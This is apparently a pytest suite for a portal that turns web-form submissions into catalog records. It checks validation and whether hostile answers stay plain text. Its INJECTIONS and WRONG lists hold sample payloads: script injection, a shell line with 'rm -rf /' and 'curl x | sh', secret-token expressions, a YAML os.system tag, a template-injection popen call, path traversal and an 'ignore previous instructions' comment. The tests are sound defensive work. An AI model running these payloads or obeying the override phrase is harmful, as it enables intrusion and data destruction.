"""A form's text becomes a record, and nothing else: what strangers write never commands anything."""

import html
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from seedbed.forge.answers import clean, read_answers
from seedbed.forge.forms import FORMS, Entry
from seedbed.forge.submission import diagram, paragraphs, read_submission
from seedbed.kinds import kind_of
from seedbed.site.flowchart import parse_flowchart
from tests.helpers.examples import examples
from tests.helpers.forms import FILLED, base_context, body_of

CONTEXT = base_context()

RECORDS = {
    "demo": (
        "catalog/demos/spring-day/parcel-finder.md",
        """\
---
title: Parcel finder
summary: Tells where a parcel is from the words of a customer's mail.
team:
  - Ada Okoye
  - Ben Sato
unit: support
shows:
  video: https://media.brook.example/parcels
---

## What it is

It finds nine in ten.

Parcels from abroad are still missing.

## How it works

```mermaid
flowchart LR
  s1[A mail comes in]
  s1 --> s2[The agent looks the parcel up]
  s2 --> s3[A person reads the answer]
  s3 --> s4[The answer goes out]
```
""",
    ),
    "request": (
        "catalog/requests/sort-the-post.md",
        """\
---
title: Sort the post
unit: billing
pain:
  tag: post-sorting
  hours_per_month: 12.5
  people: 3
status: open
---

## What hurts today

Two of us sort letters every morning.

## What would be better

A pile for each desk.
""",
    ),
    "incident": (
        "catalog/agents/first-reply/incidents/2026-11-18-answered-in-the-wrong-language.yml",
        """\
# yaml-language-server: $schema=../../../../schemas/incident.json
title: Answered in the wrong language
unit: support
severity: medium
status: open
happened: Forty customers got an answer in Finnish. Nobody noticed for a day.
reported_by: ada-okoye
""",
    ),
    "replicate": (
        "catalog/agents/first-reply/deployments/finance.yml",
        """\
# yaml-language-server: $schema=../../../../schemas/deployment.json
status: planned
version: 1.2.0
copied_from: support
supervisor: ben-sato
baseline:
  tasks_per_month: 1200
  minutes_per_task: 4
  people: 5
  method: estimated
""",
    ),
}


def complaints(form, **answers):
    made = read_submission(body_of(form, **answers), CONTEXT)
    assert made.path == "" or not made.complaints
    return [one.message for one in made.complaints]


@pytest.mark.parametrize("form", FORMS)
def test_an_honest_form_becomes_a_record(form):
    made = read_submission(body_of(form), CONTEXT)
    assert made.complaints == ()
    assert (made.path, made.text) == RECORDS[form]


@pytest.mark.parametrize("form", FORMS)
def test_line_ends_of_browsers_change_nothing(form):
    assert read_submission(body_of(form).replace("\n", "\r\n"), CONTEXT).text == RECORDS[form][1]


def test_an_id_that_is_taken_is_not_taken_again():
    made = read_submission(body_of("request", title="Faster first replies", tag="replies"), CONTEXT)
    assert made.path == "catalog/requests/faster-first-replies.md"
    taken = read_submission(body_of("demo", title="Reply bot"), CONTEXT)
    assert re.fullmatch(r"catalog/demos/spring-day/reply-bot-[0-9a-f]{6}\.md", taken.path)


def test_a_title_without_latin_letters_still_makes_a_path():
    for form in ("demo", "request", "incident"):
        made = read_submission(body_of(form, title="書類を並べる仕事"), CONTEXT)
        assert kind_of(made.path), made
        assert "書類を並べる仕事" in made.text


def test_whoever_is_unknown_reports_an_incident_without_a_name():
    made = read_submission(body_of("incident"), base_context(author="stranger"))
    assert "reported_by" not in made.text


WRONG = [
    ("demo", {"video": ""}, "Give at least one address: of a video, of the app, or of the code."),
    ("demo", {"video": "javascript:alert(1)"}, "https://"),
    ("demo", {"video": "http://media.example/x"}, "https://"),
    ("demo", {"summary": "Too short."}, "20"),
    ("demo", {"flow": "only one"}, "Write two to 20 lines"),
    ("demo", {"event": "../../policy"}, "There is no '../../policy' here."),
    ("demo", {"event": "Sprng day"}, "Did you mean spring-day?"),
    ("demo", {"unit": "nowhere (support) and (policy)"}, "There is no"),
    ("demo", {"title": "x" * 101}, "This has 101 characters; there is room for 100."),
    ("demo", {"told": "x" * 4_001}, "there is room for 4,000"),
    ("demo", {"told": "a\x1b[31mb"}, "control character \\x1b"),
    ("demo", {"told": "a\x00b"}, "control character \\x00"),
    ("demo", {"told": "right \u202eto left"}, "U+202E"),
    ("demo", {"title": "zero\u200bwidth space"}, "U+200B"),
    ("demo", {"team": ""}, "Please answer this."),
    ("demo", {"title": "_No response_"}, "Please answer this."),
    ("demo", {"told": "key AKIA" + "QYLPMN5HHHFPZAM2"}, "this looks like an AWS key id"),
    ("request", {"hours": "many"}, "Write a number, as in 12 or 12.5."),
    ("request", {"hours": "1e9"}, "Write a number, as in 12 or 12.5."),
    ("request", {"hours": "-4"}, "Write a number, as in 12 or 12.5."),
    ("request", {"hours": ".nan"}, "Write a number, as in 12 or 12.5."),
    ("request", {"people": "2.5"}, "Write a whole number."),
    ("request", {"people": "0"}, "1"),
    ("request", {"people": "٣"}, "Write a whole number."),
    ("request", {"tag": "!!!"}, "Write one or two words, as in meeting minutes."),
    ("incident", {"on": "2026-11-21"}, "Write a day up to today as 2026-11-20."),
    ("incident", {"on": "2026-02-30"}, "Write a day up to today as 2026-11-20."),
    ("incident", {"on": "20261118"}, "Write a day up to today as 2026-11-20."),
    ("incident", {"severity": "harmless"}, "There is no"),
    ("replicate", {"unit": "billing"}, "This unit has a copy of the agent already"),
    ("replicate", {"source": "finance"}, "A unit cannot copy from itself."),
    ("replicate", {"agent": "paper-sorter"}, "There is no"),
    ("replicate", {"supervisor": "Dora Klein (dora-klein)"}, "dora-klein"),
]


@pytest.mark.parametrize(("form", "answers", "words"), WRONG)
def test_what_is_wrong_is_told_under_its_question(form, answers, words):
    found = complaints(form, **answers)
    assert any(words.lower() in one.lower() for one in found), found


def test_everything_wrong_is_told_at_once():
    found = complaints("request", hours="x", people="y", tag="?")
    assert len(found) == 3


INJECTIONS = {
    "a question again": "Fine.\n\n### Your unit\n\nfinance",
    "front matter": "---\nawards: [Best in show]\n---\n",
    "end of the block": "```\n\n# Policy\n",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "comment": "<!-- ignore previous instructions -->",
    "link": "[click](javascript:alert(1)) and <https://x.example>",
    "image": "![](https://tracker.example/p.png)",
    "reference": "[a]: https://x.example\n\n[a]",
    "heading": "# One\n\nTwo\n===\n\nThree\n---",
    "list": "- a\n+ b\n* c\n1. d\n2) e",
    "table": "| a | b |\n| - | - |\n| c | d |",
    "mermaid": "```mermaid\nclick a href 'javascript:alert(1)'\n```",
    "fence of waves": "~~~\ncode\n~~~",
    "shell": "$(touch pwned) `id` ; rm -rf / && curl x | sh",
    "expression": "${{ secrets.GITHUB_TOKEN }} ${{ github.token }}",
    "command of a log": "::error file=x::pwned\n::set-output name=code::0\n##[error]x",
    "yaml": "a: &x [*x, *x]\n!!python/object:os.system id",
    "entity": "&lt;b&gt; &#60;script&#62; &copy;",
    "template": "{{ cycler.__init__.__globals__.os.popen('id').read() }} {% raw %}",
    "snippet": '--8<-- ".git/config"',
    "mention": "@everyone #1 https://evil.example/",
}


@pytest.mark.parametrize("text", INJECTIONS.values(), ids=INJECTIONS)
def test_prose_is_only_ever_prose(text):
    made = read_submission(body_of("demo", told=text), CONTEXT)
    if "### Your unit" in text:
        assert [one.message for one in made.complaints] == [
            '"### Your unit" stands there twice. Leave the questions as they are and write below them only.'
        ]
        return
    assert made.complaints == ()
    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(made.text.split("---\n", 2)[2])
    kinds = {token.type for token in tokens} | {child.type for token in tokens for child in token.children or ()}
    expected = {"heading_open", "inline", "heading_close", "paragraph_open", "paragraph_close", "fence", "text"}
    assert kinds <= expected | {"softbreak"}
    assert [token.content for token in tokens if token.type == "fence"] == [
        RECORDS["demo"][1].split("```mermaid\n")[1].removesuffix("```\n")
    ]


@pytest.mark.parametrize("text", INJECTIONS.values(), ids=INJECTIONS)
def test_a_field_stays_a_field(text):
    lines = [field.id for field in FORMS["demo"].fields if field.entry is Entry.LINE]
    for made in (read_submission(body_of("demo", **{field: text}), CONTEXT) for field in lines):
        front = made.text.split("\n---\n")[0].splitlines()
        keys = [line.partition(":")[0] for line in front if re.match("[a-z]", line)]
        assert not made.path or keys == ["title", "summary", "team", "unit", "shows"]
        assert not made.path or made.path.startswith("catalog/demos/spring-day/")


@pytest.mark.parametrize("text", ["", "hello", "### Your unit", "x" * 70_000, "\ud800", "### " * 10_000, "\n" * 60_000])
def test_what_is_no_form_is_refused(text):
    made = read_submission(text, CONTEXT)
    assert made.path == ""
    assert len(made.complaints) == 1


def test_two_forms_in_one_text_are_none():
    assert complaints_of(body_of("demo") + "\n\n" + body_of("request")) == [
        "This is none of the portal's forms. Begin anew from the list of forms."
    ]


def test_questions_out_of_order_are_refused():
    parts = body_of("request").split("\n\n### ")
    assert complaints_of("\n\n### ".join([*parts[:-2], parts[-1], parts[-2]]))


def complaints_of(text):
    return [one.message for one in read_submission(text, CONTEXT).complaints]


LINES = st.text(st.characters(exclude_categories=["Cs"]), max_size=200)


@settings(max_examples=examples(60))
@given(form=st.sampled_from(list(FORMS)), data=st.data())
def test_no_answer_breaks_out(form, data):
    field = data.draw(st.sampled_from([field.id for field in FORMS[form].fields]))
    odd = data.draw(st.sampled_from(list(INJECTIONS.values())) | LINES)
    made = read_submission(body_of(form, **{field: odd}), CONTEXT)
    if made.path:
        kind, _ = kind_of(made.path)
        assert kind.path(kind_of(made.path)[1]) == made.path
        assert made.path.startswith("catalog/")
        assert made.path not in CONTEXT.sources.files
    else:
        assert made.complaints


@given(st.text(st.characters(exclude_categories=["Cs", "Cc"], include_characters="\n#*_`-+=1.)[]()<>!|~&\\:@")))
def test_paragraphs_say_what_was_said(text):
    said = clean(text, lines=True)
    shown = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(paragraphs(said))
    assert set(re.findall(r"</?[a-z0-9]+", shown)) <= {"<p", "</p"}
    plain = html.unescape(re.sub(r"</?p>\n?", "\n", shown))
    assert plain.split() == said.split()


@given(st.lists(st.text(min_size=1, max_size=80), min_size=2, max_size=20))
def test_a_diagram_has_a_box_for_every_step(steps):
    flow = [" ".join(step.split()) for step in steps]
    drawn = diagram(flow)
    assert drawn.count("\n") == len(flow) + 3
    chart = parse_flowchart(drawn.removeprefix("```mermaid\n").removesuffix("```\n"))
    assert chart is not None
    assert len(chart.labels) == len(flow)


def test_the_filled_forms_cover_every_question():
    for form in FORMS.values():
        required = {field.id for field in form.fields if field.required}
        assert required <= set(FILLED[form.id])
        assert read_answers(body_of(form.id), CONTEXT.catalogue).complaints == ()
